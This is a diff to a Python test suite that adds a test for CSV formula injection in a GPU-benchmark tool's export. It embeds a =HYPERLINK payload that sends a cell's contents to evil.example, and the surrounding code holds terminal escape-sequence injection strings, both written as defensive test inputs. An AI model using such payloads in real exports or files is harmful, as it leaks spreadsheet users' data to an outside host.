@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import importlib.util
 import json
 import sqlite3
@@ -383,6 +384,21 @@ def test_control_characters_in_json_csv_and_html_outputs_are_escapes(run: Cli, t
         text = (tmp_path / name).read_text(encoding="utf-8")
         assert not any(ch in text for ch in "\x1b\x07\x7f\x9b\u202e"), name
         assert "EVIL\\x1b[2J\\x1b]0;pwned\\x07\\u202eGPU" in text, name
+
+
+def test_a_csv_cell_a_spreadsheet_would_take_for_a_formula_is_written_as_text(run: Cli, tmp_path: Path) -> None:
+    """A GPU name or driver from an imported records file that begins with = + - @ ran as a formula in
+    a spreadsheet opening the CSV export (=HYPERLINK sends the sheet's cells away)."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    db = tmp_path / "formula.db"
+    gpu = GpuInfo(formula, "GPU-3333", "9.0", 132, 60 * 2**20, 141 * 2**30, "@SUM(1+1)", "+1")
+    with open_store(str(db), import_shipped=False) as store:
+        record(store, SHAPE, FAST, ok(4.0), gpu)
+    assert run("export", "--format", "csv", "-o", str(tmp_path / "out.csv"), "--db", str(db)).code == 0
+    rows = list(csv.DictReader((tmp_path / "out.csv").open()))
+    cells = [value for row in rows for value in row.values() if value]
+    assert "'" + formula in cells
+    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), cells
 
 
 def test_json_output_keeps_readable_text_readable() -> None:
